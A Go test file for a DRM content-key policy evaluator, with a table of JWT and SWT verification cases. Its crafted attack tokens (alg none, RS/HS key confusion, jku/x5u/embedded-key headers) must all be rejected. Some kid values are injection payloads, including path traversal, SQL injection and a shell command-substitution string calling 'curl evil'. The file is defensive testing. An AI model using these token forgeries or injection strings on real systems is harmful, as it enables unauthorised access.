package policy_test

import (
	"context"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	jose "github.com/go-jose/go-jose/v4"

	"github.com/lockstream/lockstream/internal/defs"
	"github.com/lockstream/lockstream/internal/keys"
	"github.com/lockstream/lockstream/internal/policy"
)

// TestEvaluate is the decision table: every attack class of the reference
// (drm-and-tokens.md §8.2), every key type, SWT, claims, key binding and
// time and issuer rules. Max uses, OIDC rollover and token location have
// their own tests because they need state across requests.
func TestEvaluate(t *testing.T) {
	k := fixtures()
	skew := policy.DefaultClockSkew
	idp := newOIDCServer(t,
		jwk("rsa1", "RS256", &k.rsaAlt.PublicKey),
		jwk("ec1", "ES256", &k.ec.PublicKey),
		jose.JSONWebKey{Key: k.hsOther, KeyID: "oct1", Algorithm: "HS256"}, // must be ignored
	)
	attacker := newHitCounter(t)

	hs := single(jwtRestriction(symKey(k.hs), symKey(k.hsAlt)))
	rs := single(jwtRestriction(rsaKey(k.rsa), rsaKey(k.rsaAlt)))
	x5 := single(jwtRestriction(certKey(k.certDER)))
	x5pem := single(jwtRestriction(certKey(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: k.certDER})), rsaKey(k.rsaOther)))
	oidc := single(idp.restriction())
	sw := single(swtRestriction(symKey(k.hs), symKey(k.hsAlt)))

	base := baseClaims()
	payload := mustJSON(base)
	pkix, err := x509.MarshalPKIXPublicKey(&k.rsa.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	pubPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})
	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: k.certDER})
	attackerJWK, err := jose.JSONWebKey{Key: &k.rsaOther.PublicKey}.MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	none := func(alg string) string {
		return b64([]byte(`{"alg":"`+alg+`","typ":"JWT"}`)) + "." + b64([]byte(payload)) + ".c2lnbmF0dXJl"
	}
	kidHeader := func(alg, kid string) string { return `{"alg":"` + alg + `","kid":"` + kid + `"}` }
	zeroES := b64([]byte(kidHeader("ES256", "ec1"))) + "." + b64([]byte(payload)) + "." + b64(make([]byte, 64))
	swtExp := testNow.Add(30 * time.Minute)
	validSWT := swt(k.hs, swtBase(swtExp)...)

	tests := []struct {
		name   string
		policy *defs.ContentKeyPolicyProperties
		kind   policy.Kind // default KindEnvelope
		kid    keys.KID    // default testKID
		token  string
		now    time.Time // default testNow
		strict bool      // evaluator without AllowInsecureDiscovery
		want   error     // nil, or the class (and ErrNoOption)
		index  int       // option expected to grant
		reason string    // substring of the error, proving which rule fired
	}{
		// Options, kinds, open restriction.
		{name: "open envelope", policy: single(&defs.ContentKeyPolicyOpenRestriction{})},
		{name: "open W3C clear key license", policy: single(&defs.ContentKeyPolicyOpenRestriction{}), kind: policy.KindClearKey},
		{name: "widevine request, clear key policy", policy: single(&defs.ContentKeyPolicyOpenRestriction{}), kind: policy.KindWidevine, want: policy.ErrNoOption},
		{name: "option serving the kind is chosen", kind: policy.KindWidevine, index: 1, policy: pol(
			option("ck", &defs.ContentKeyPolicyOpenRestriction{}),
			defs.ContentKeyPolicyOption{Name: "wv", Configuration: &defs.ContentKeyPolicyWidevineConfiguration{WidevineTemplate: "{}"}, Restriction: &defs.ContentKeyPolicyOpenRestriction{}})},
		{name: "unknown configuration serves nothing", want: policy.ErrNoOption, policy: pol(
			defs.ContentKeyPolicyOption{Configuration: &defs.ContentKeyPolicyUnknownConfiguration{}, Restriction: &defs.ContentKeyPolicyOpenRestriction{}})},
		{name: "token option fails, later open option grants", index: 1, token: "garbage", policy: pol(
			option("tok", jwtRestriction(symKey(k.hs))), option("open", &defs.ContentKeyPolicyOpenRestriction{}))},
		{name: "unknown restriction never passes", policy: single(&defs.ContentKeyPolicyUnknownRestriction{}), want: policy.ErrForbidden},
		{name: "no token", policy: hs, want: policy.ErrUnauthenticated, reason: "no token"},
		{name: "stored restriction without issuer", want: policy.ErrForbidden, reason: "without issuer", token: hsJWT(k.hs, base.with("iss", nil)),
			policy: single(&defs.ContentKeyPolicyTokenRestriction{Audience: testAudience, PrimaryVerificationKey: symKey(k.hs), RestrictionTokenType: defs.ContentKeyPolicyRestrictionTokenTypeJwt})},

		// Symmetric keys, alternate key rollover.
		{name: "HS256 primary", policy: hs, token: joseJWT(t, jose.HS256, k.hs, "", base)},
		{name: "HS384 primary", policy: hs, token: joseJWT(t, jose.HS384, k.hs, "", base)},
		{name: "HS512 primary", policy: hs, token: joseJWT(t, jose.HS512, k.hs, "", base)},
		{name: "HS256 alternate key", policy: hs, token: joseJWT(t, jose.HS256, k.hsAlt, "", base)},
		{name: "HS256 unknown key", policy: hs, token: hsJWT(k.hsOther, base), want: policy.ErrUnauthenticated, reason: "none of 2 candidate key"},
		{name: "HS512 not offered to a 32-byte key", policy: hs, token: rawJWT(`{"alg":"HS512"}`, payload, k.hsAlt), want: policy.ErrUnauthenticated, reason: "none of 1 candidate key"},
		{name: "symmetric key below 128 bits unusable", policy: single(jwtRestriction(symKey(fill(15, 7)))), token: hsJWT(fill(15, 7), base), want: policy.ErrUnauthenticated, reason: "1 configured key(s) unusable"},
		// AMS accepted HS256 keys of 16 to 31 bytes (its samples use 16);
		// they verify HS256 only, like the RFC's 32-byte keys.
		{name: "HS256 with a 16-byte key (AMS samples)", policy: single(jwtRestriction(symKey(fill(16, 7)))), token: hsJWT(fill(16, 7), base)},
		{name: "HS256 with a 31-byte key", policy: single(jwtRestriction(symKey(fill(31, 7)))), token: hsJWT(fill(31, 7), base)},
		{name: "HS256 16-byte key, other key's signature", policy: single(jwtRestriction(symKey(fill(16, 7)))), token: hsJWT(fill(16, 8), base), want: policy.ErrUnauthenticated, reason: "none of 1 candidate key"},
		{name: "HS256 16-byte key, signature one byte longer", policy: single(jwtRestriction(symKey(fill(16, 7)))), token: hsJWT(fill(16, 7), base) + "AA", want: policy.ErrUnauthenticated},
		{name: "HS384 not offered to a 16-byte key", policy: single(jwtRestriction(symKey(fill(16, 7)))), token: rawJWT(`{"alg":"HS384"}`, payload, fill(16, 7)), want: policy.ErrUnauthenticated, reason: "no key of the restriction verifies HS384"},

		// alg none, in every case.
		{name: "alg none", policy: hs, token: none("none"), want: policy.ErrUnauthenticated, reason: "alg none"},
		{name: "alg None", policy: hs, token: none("None"), want: policy.ErrUnauthenticated, reason: "alg none"},
		{name: "alg NONE", policy: hs, token: none("NONE"), want: policy.ErrUnauthenticated, reason: "alg none"},
		{name: "alg none, empty signature", policy: hs, token: strings.TrimSuffix(none("none"), "c2lnbmF0dXJl"), want: policy.ErrUnauthenticated},

		// RS/HS confusion: HMAC keyed with the RSA public key's bytes.
		{name: "HS256 keyed with RSA public PEM", policy: rs, token: hsJWT(pubPEM, base), want: policy.ErrUnauthenticated, reason: "no key of the restriction verifies HS256"},
		{name: "HS256 keyed with RSA public DER", policy: rs, token: hsJWT(pkix, base), want: policy.ErrUnauthenticated, reason: "no key of the restriction verifies HS256"},
		{name: "HS256 keyed with PKCS#1 DER", policy: rs, token: hsJWT(x509.MarshalPKCS1PublicKey(&k.rsa.PublicKey), base), want: policy.ErrUnauthenticated},
		{name: "HS256 keyed with certificate PEM", policy: x5pem, token: hsJWT(certPEM, base), want: policy.ErrUnauthenticated, reason: "verifies HS256"},
		{name: "HS256 keyed with certificate DER", policy: x5, token: hsJWT(k.certDER, base), want: policy.ErrUnauthenticated},
		{name: "HS256 keyed with JWKS RSA modulus", policy: oidc, token: rawJWT(kidHeader("HS256", "rsa1"), payload, k.rsaAlt.N.Bytes()), want: policy.ErrUnauthenticated},
		{name: "HS256 with a JWKS oct key", policy: oidc, token: rawJWT(kidHeader("HS256", "oct1"), payload, k.hsOther), want: policy.ErrUnauthenticated, reason: `kid "oct1" not in the key set`},

		// RSA modulus/exponent and X.509 keys.
		{name: "RS256 primary", policy: rs, token: joseJWT(t, jose.RS256, k.rsa, "", base)},
		{name: "RS384 primary", policy: rs, token: joseJWT(t, jose.RS384, k.rsa, "", base)},
		{name: "RS512 primary", policy: rs, token: joseJWT(t, jose.RS512, k.rsa, "", base)},
		{name: "PS256 primary", policy: rs, token: joseJWT(t, jose.PS256, k.rsa, "", base)},
		{name: "RS256 alternate key", policy: rs, token: joseJWT(t, jose.RS256, k.rsaAlt, "", base)},
		{name: "RS256 unknown key", policy: rs, token: joseJWT(t, jose.RS256, k.rsaOther, "", base), want: policy.ErrUnauthenticated},
		{name: "PS384 not accepted", policy: rs, token: rawJWT(`{"alg":"PS384"}`, payload, k.rsa), want: policy.ErrUnauthenticated, reason: "not accepted"},
		{name: "X.509 DER RS256", policy: x5, token: joseJWT(t, jose.RS256, k.certKey, "", base)},
		{name: "X.509 PEM RS256, RSA alternate", policy: x5pem, token: joseJWT(t, jose.RS256, k.rsaOther, "", base)},
		{name: "X.509 wrong key", policy: x5, token: joseJWT(t, jose.RS256, k.rsa, "", base), want: policy.ErrUnauthenticated},

		// OpenID Connect JWKS, RSA and EC.
		{name: "OIDC RS256 by kid", policy: oidc, token: joseJWT(t, jose.RS256, k.rsaAlt, "rsa1", base)},
		{name: "OIDC ES256 by kid", policy: oidc, token: joseJWT(t, jose.ES256, k.ec, "ec1", base)},
		{name: "OIDC RS256 without kid", policy: oidc, token: joseJWT(t, jose.RS256, k.rsaAlt, "", base)},
		{name: "OIDC RS384 on an RS256-only JWK", policy: oidc, token: joseJWT(t, jose.RS384, k.rsaAlt, "rsa1", base), want: policy.ErrUnauthenticated},
		{name: "OIDC ES256 with RSA kid", policy: oidc, token: joseJWT(t, jose.ES256, k.ec, "rsa1", base), want: policy.ErrUnauthenticated},
		{name: "OIDC ES256 unknown key", policy: oidc, token: joseJWT(t, jose.ES256, k.ecOther, "ec1", base), want: policy.ErrUnauthenticated},
		{name: "OIDC unknown kid", policy: oidc, token: joseJWT(t, jose.RS256, k.rsaOther, "nope", base), want: policy.ErrUnauthenticated, reason: "not in the key set"},
		{name: "ECDSA r=s=0", policy: oidc, token: zeroES, want: policy.ErrUnauthenticated},
		{name: "OIDC over http refused", policy: oidc, strict: true, token: joseJWT(t, jose.RS256, k.rsaAlt, "rsa1", base), want: policy.ErrUnavailable, reason: "scheme"},
		{name: "OIDC token for another issuer", policy: oidc, token: joseJWT(t, jose.RS256, k.rsaAlt, "rsa1", base.with("iss", "https://evil.example/")), want: policy.ErrUnauthenticated, reason: "issuer"},

		// kid is an untrusted lookup key only.
		{name: "kid path traversal, empty HMAC key", policy: hs, token: rawJWT(kidHeader("HS256", "../../../../dev/null"), payload, []byte{}), want: policy.ErrUnauthenticated},
		{name: "kid SQL injection", policy: hs, token: rawJWT(kidHeader("HS256", `x' UNION SELECT 'secret' --`), payload, []byte("secret")), want: policy.ErrUnauthenticated},
		{name: "kid shell metacharacters on OIDC", policy: oidc, token: rawJWT(kidHeader("RS256", "$(curl evil);`id`|x"), payload, k.rsaOther), want: policy.ErrUnauthenticated},
		{name: "kid not a string", policy: hs, token: rawJWT(`{"alg":"HS256","kid":7}`, payload, k.hs), want: policy.ErrUnauthenticated, reason: "kid"},

		// Header-supplied keys are never fetched nor trusted.
		{name: "jku header", policy: rs, token: rawJWT(`{"alg":"RS256","jku":"`+attacker.srv.URL+`/jwks","kid":"a"}`, payload, k.rsaOther), want: policy.ErrUnauthenticated, reason: "jku"},
		{name: "x5u header", policy: rs, token: rawJWT(`{"alg":"RS256","x5u":"`+attacker.srv.URL+`/cert.pem"}`, payload, k.rsaOther), want: policy.ErrUnauthenticated, reason: "x5u"},
		{name: "jku on OIDC policy", policy: oidc, token: rawJWT(`{"alg":"RS256","jku":"`+attacker.srv.URL+`/jwks","kid":"rsa1"}`, payload, k.rsaOther), want: policy.ErrUnauthenticated, reason: "jku"},
		{name: "embedded jwk", policy: rs, token: rawJWT(`{"alg":"RS256","jwk":`+string(attackerJWK)+`}`, payload, k.rsaOther), want: policy.ErrUnauthenticated, reason: "jwk"},
		{name: "embedded x5c", policy: rs, token: rawJWT(`{"alg":"RS256","x5c":["`+base64.StdEncoding.EncodeToString(k.certDER)+`"]}`, payload, k.certKey), want: policy.ErrUnauthenticated, reason: "x5c"},
		{name: "x5t hint is ignored", policy: x5, token: rawJWT(`{"alg":"RS256","typ":"JWT","x5t":"bm90LWEtdGh1bWJwcmludA"}`, payload, k.certKey)},
		{name: "unknown crit", policy: hs, token: rawJWT(`{"alg":"HS256","crit":["x"],"x":1}`, payload, k.hs), want: policy.ErrUnauthenticated, reason: "crit"},
		{name: "b64 false", policy: hs, token: rawJWT(`{"alg":"HS256","b64":false,"crit":["b64"]}`, payload, k.hs), want: policy.ErrUnauthenticated},
		{name: "zip in JWS header", policy: hs, token: rawJWT(`{"alg":"HS256","zip":"DEF"}`, payload, k.hs), want: policy.ErrUnauthenticated, reason: "zip"},
		{name: "typ of another token kind", policy: hs, token: rawJWT(`{"alg":"HS256","typ":"dpop+jwt"}`, payload, k.hs), want: policy.ErrUnauthenticated, reason: "typ"},
		{name: "typ at+jwt accepted", policy: hs, token: rawJWT(`{"alg":"HS256","typ":"at+jwt"}`, payload, k.hs)},

		// Parser DoS and JWE.
		{name: "oversized token", policy: hs, token: hsJWT(k.hs, base.with("pad", strings.Repeat("a", 9000))), want: policy.ErrUnauthenticated, reason: "exceeds limit"},
		{name: "thousands of dots", policy: hs, token: strings.Repeat(".", 8000), want: policy.ErrUnauthenticated},
		{name: "JWE compact", policy: hs, token: "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.a2V5.aXY.Y2lwaGVy.dGFn", want: policy.ErrUnauthenticated, reason: "JWE"},
		{name: "PBES2 with huge p2c", policy: hs, token: rawJWT(`{"alg":"PBES2-HS256+A128KW","p2c":2000000000,"enc":"A128GCM"}`, payload, k.hs), want: policy.ErrUnauthenticated, reason: "not accepted"},

		// Claim typing and strict JSON.
		{name: "exp as string", policy: hs, token: hsJWT(k.hs, base.with("exp", fmt.Sprint(testNow.Add(time.Hour).Unix()))), want: policy.ErrUnauthenticated, reason: "exp"},
		{name: "exp as float", policy: hs, token: rawJWT(`{"alg":"HS256"}`, `{"iss":"`+testIssuer+`","aud":"`+testAudience+`","exp":1.8e9}`, k.hs), want: policy.ErrUnauthenticated, reason: "exp"},
		{name: "exp missing", policy: hs, token: hsJWT(k.hs, base.with("exp", nil)), want: policy.ErrUnauthenticated, reason: "exp is required"},
		{name: "duplicate exp", policy: hs, token: rawJWT(`{"alg":"HS256"}`, `{"iss":"`+testIssuer+`","aud":"`+testAudience+`","exp":1,"exp":`+fmt.Sprint(testNow.Add(time.Hour).Unix())+`}`, k.hs), want: policy.ErrUnauthenticated, reason: "duplicate"},
		{name: "duplicate alg", policy: hs, token: rawJWT(`{"alg":"HS256","alg":"none"}`, payload, k.hs), want: policy.ErrUnauthenticated, reason: "duplicate"},
		{name: "invalid UTF-8 claims", policy: hs, token: rawJWT(`{"alg":"HS256"}`, "{\"iss\":\""+testIssuer+"\xff\",\"exp\":1}", k.hs), want: policy.ErrUnauthenticated, reason: "UTF-8"},
		{name: "payload not an object", policy: hs, token: rawJWT(`{"alg":"HS256"}`, `[1]`, k.hs), want: policy.ErrUnauthenticated},

		// Time and skew.
		{name: "expired beyond skew", policy: hs, token: hsJWT(k.hs, base.with("exp", testNow.Add(-skew-time.Second).Unix())), want: policy.ErrUnauthenticated, reason: "expired"},
		{name: "expired within skew", policy: hs, token: hsJWT(k.hs, base.with("exp", testNow.Add(-skew+time.Second).Unix()))},
		{name: "nbf beyond skew", policy: hs, token: hsJWT(k.hs, base.with("nbf", testNow.Add(skew+time.Second).Unix())), want: policy.ErrUnauthenticated, reason: "not valid before"},
		{name: "nbf within skew", policy: hs, token: hsJWT(k.hs, base.with("nbf", testNow.Add(skew-time.Second).Unix()))},
		{name: "judged later: expired", policy: hs, token: hsJWT(k.hs, base), now: testNow.Add(time.Hour), want: policy.ErrUnauthenticated},

		// Issuer and audience.
		{name: "wrong issuer", policy: hs, token: hsJWT(k.hs, base.with("iss", "https://other.example.com/")), want: policy.ErrUnauthenticated, reason: "issuer"},
		{name: "issuer without trailing slash", policy: hs, token: hsJWT(k.hs, base.with("iss", strings.TrimSuffix(testIssuer, "/"))), want: policy.ErrUnauthenticated},
		{name: "issuer in other case", policy: hs, token: hsJWT(k.hs, base.with("iss", strings.ToUpper(testIssuer))), want: policy.ErrUnauthenticated},
		{name: "issuer missing", policy: hs, token: hsJWT(k.hs, base.with("iss", nil)), want: policy.ErrUnauthenticated},
		{name: "wrong audience", policy: hs, token: hsJWT(k.hs, base.with("aud", "urn:other")), want: policy.ErrUnauthenticated, reason: "audience"},
		{name: "audience array with ours", policy: hs, token: hsJWT(k.hs, base.with("aud", []string{"urn:other", testAudience}))},
		{name: "audience array without ours", policy: hs, token: hsJWT(k.hs, base.with("aud", []string{"urn:other", "urn:third"})), want: policy.ErrUnauthenticated, reason: "audience"},
		{name: "audience missing", policy: hs, token: hsJWT(k.hs, base.with("aud", nil)), want: policy.ErrUnauthenticated},
		{name: "audience array of numbers", policy: hs, token: hsJWT(k.hs, base.with("aud", []int{1})), want: policy.ErrUnauthenticated},

		// Required claims.
		{name: "required claim present", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("sub", ""))), token: hsJWT(k.hs, base.with("sub", "alice"))},
		{name: "required claim missing", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("sub", ""))), token: hsJWT(k.hs, base), want: policy.ErrForbidden, reason: "missing"},
		{name: "required claim null", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("sub", ""))), token: hsJWT(k.hs, base.with("sub", jsonNull{})), want: policy.ErrForbidden},
		{name: "required claim empty array", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("groups", ""))), token: hsJWT(k.hs, base.with("groups", []string{})), want: policy.ErrForbidden},
		{name: "required value matches", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("tier", "gold"))), token: hsJWT(k.hs, base.with("tier", "gold"))},
		{name: "required value differs", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("tier", "gold"))), token: hsJWT(k.hs, base.with("tier", "Gold")), want: policy.ErrForbidden, reason: "none of 1 value"},
		{name: "multi-valued groups contain value", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("groups", "premium"))), token: hsJWT(k.hs, base.with("groups", []string{"basic", "premium"}))},
		{name: "multi-valued groups lack value", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("groups", "premium"))), token: hsJWT(k.hs, base.with("groups", []string{"basic", "free"})), want: policy.ErrForbidden},
		{name: "number claim rendered canonically", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("level", "2"))), token: rawJWT(`{"alg":"HS256"}`, strings.TrimSuffix(payload, "}")+`,"level":2.0}`, k.hs)},
		{name: "bool claim rendered canonically", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("hd", "true"))), token: hsJWT(k.hs, base.with("hd", true))},
		{name: "array of mixed scalars", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim("ids", "42"))), token: hsJWT(k.hs, base.with("ids", []any{"a", 42, false, nil, map[string]int{"x": 1}}))},
		{name: "403 beats 401 across options", want: policy.ErrForbidden, token: hsJWT(k.hs, base), policy: pol(
			option("other issuer", jwtRestriction(symKey(k.hsOther))),
			option("needs sub", withClaims(jwtRestriction(symKey(k.hs)), claim("sub", ""))))},

		// Content key identifier binding.
		{name: "kid claim equals request", policy: hs, token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, testKID.String()))},
		{name: "kid claim upper case with braces", policy: hs, token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, "{"+strings.ToUpper(testKID.String())+"}"))},
		{name: "kid claim with AMS v2 prefix", policy: hs, token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, "nb:kid:UUID:"+testKID.String()))},
		{name: "kid claim for another key", policy: hs, token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, otherKID.String())), want: policy.ErrForbidden, reason: "bound to key"},
		{name: "kid claim malformed", policy: hs, token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, "not-a-guid")), want: policy.ErrForbidden},
		{name: "kid claim as array", policy: hs, token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, []string{testKID.String(), otherKID.String()})), want: policy.ErrForbidden},
		{name: "required kid claim missing", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim(defs.ContentKeyIdentifierClaim, ""))), token: hsJWT(k.hs, base), want: policy.ErrForbidden},
		{name: "required kid claim, no value, matches request", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim(defs.ContentKeyIdentifierClaim, ""))), token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, testKID.String()))},
		{name: "required kid claim with value, request for it", policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim(defs.ContentKeyIdentifierClaim, strings.ToUpper(testKID.String())))), token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, testKID.String()))},
		{name: "required kid claim with value, request for another", kid: otherKID, policy: single(withClaims(jwtRestriction(symKey(k.hs)), claim(defs.ContentKeyIdentifierClaim, testKID.String()))), token: hsJWT(k.hs, base.with(defs.ContentKeyIdentifierClaim, testKID.String())), want: policy.ErrForbidden},

		// SWT.
		{name: "SWT valid", policy: sw, token: validSWT},
		{name: "SWT alternate key", policy: sw, token: swt(k.hsAlt, swtBase(swtExp)...)},
		{name: "SWT unknown key", policy: sw, token: swt(k.hsOther, swtBase(swtExp)...), want: policy.ErrUnauthenticated, reason: "SWT signature"},
		{name: "SWT tampered audience", policy: sw, token: strings.Replace(validSWT, "Audience=urn%3Alockstream%3Atest", "Audience=urn%3Alockstream%3Atesu", 1), want: policy.ErrUnauthenticated, reason: "SWT signature"},
		{name: "SWT re-encoded, same values", policy: sw, token: strings.Replace(validSWT, "%3A", "%3a", 1), want: policy.ErrUnauthenticated, reason: "SWT signature"},
		{name: "SWT HMACSHA256 not last", policy: sw, token: validSWT + "&Extra=1", want: policy.ErrUnauthenticated, reason: "not the last pair"},
		{name: "SWT HMACSHA256 twice", policy: sw, token: "HMACSHA256=x&" + validSWT, want: policy.ErrUnauthenticated, reason: "not the last pair"},
		{name: "SWT without signature", policy: sw, token: swtBody(swtBase(swtExp)...), want: policy.ErrUnauthenticated},
		{name: "SWT expired", policy: sw, token: swt(k.hs, swtBase(testNow.Add(-skew-time.Second))...), want: policy.ErrUnauthenticated, reason: "expired"},
		{name: "SWT ExpiresOn not digits", policy: sw, token: swt(k.hs, swtPair{"Issuer", testIssuer}, swtPair{"Audience", testAudience}, swtPair{"ExpiresOn", "+1800000000"}), want: policy.ErrUnauthenticated},
		{name: "SWT duplicate claim", policy: sw, token: swt(k.hs, swtBase(swtExp, swtPair{"Issuer", "https://evil/"})...), want: policy.ErrUnauthenticated, reason: "duplicate"},
		{name: "SWT wrong issuer", policy: sw, token: swt(k.hs, swtPair{"Issuer", "https://evil/"}, swtPair{"Audience", testAudience}, swtPair{"ExpiresOn", fmt.Sprint(swtExp.Unix())}), want: policy.ErrUnauthenticated},
		{name: "SWT kid binding", policy: single(withClaims(swtRestriction(symKey(k.hs)), claim(defs.ContentKeyIdentifierClaim, ""))), token: swt(k.hs, swtBase(swtExp, swtPair{defs.ContentKeyIdentifierClaim, testKID.String()})...)},
		{name: "SWT kid binding mismatch", policy: sw, token: swt(k.hs, swtBase(swtExp, swtPair{defs.ContentKeyIdentifierClaim, otherKID.String()})...), want: policy.ErrForbidden},
		{name: "SWT required claim value", policy: single(withClaims(swtRestriction(symKey(k.hs)), claim("tier", "gold"))), token: swt(k.hs, swtBase(swtExp, swtPair{"tier", "silver"})...), want: policy.ErrForbidden},
		{name: "SWT to a Jwt restriction", policy: hs, token: validSWT, want: policy.ErrUnauthenticated},
		{name: "JWT to a Swt restriction", policy: sw, token: hsJWT(k.hs, base), want: policy.ErrUnauthenticated},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEvaluator(t, policy.Config{AllowInsecureDiscovery: !tt.strict})
			req := policy.Request{Policy: tt.policy, Kind: tt.kind, KID: tt.kid, Token: tt.token, Now: tt.now}
			if req.Kind == 0 {
				req.Kind = policy.KindEnvelope
			}
			if req.KID.IsZero() {
				req.KID = testKID
			}
			d, err := e.Evaluate(context.Background(), req)
			if tt.want == nil {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				if d.Index != tt.index {
					t.Fatalf("granted by option %d, want %d", d.Index, tt.index)
				}
				return
			}
			if !errors.Is(err, tt.want) {
				t.Fatalf("err = %v, want %v", err, tt.want)
			}
			var pe *policy.Error
			if !errors.As(err, &pe) {
				t.Fatalf("err %T is not *policy.Error", err)
			}
			if tt.reason != "" && !strings.Contains(err.Error(), tt.reason) {
				t.Fatalf("err = %v, want it to mention %q", err, tt.reason)
			}
			checkNoLeak(t, err, tt.token)
			t.Log(err)
		})
	}
	if n := attacker.hits.Load(); n != 0 {
		t.Errorf("attacker server got %d requests; header-supplied URLs must never be fetched", n)
	}
}

// checkNoLeak fails when an error repeats the token, one of its JWS
// segments or its SWT signature. (Claim values such as KIDs may appear.)
func checkNoLeak(t *testing.T, err error, token string) {
	t.Helper()
	msg := err.Error()
	parts := []string{token}
	if _, sig, ok := strings.Cut(token, "HMACSHA256="); ok {
		parts = append(parts, sig)
	} else {
		parts = append(parts, strings.Split(token, ".")...)
	}
	for _, part := range parts {
		if len(part) >= 16 && strings.Contains(msg, part) {
			t.Fatalf("error repeats token material: %v", err)
		}
	}
}
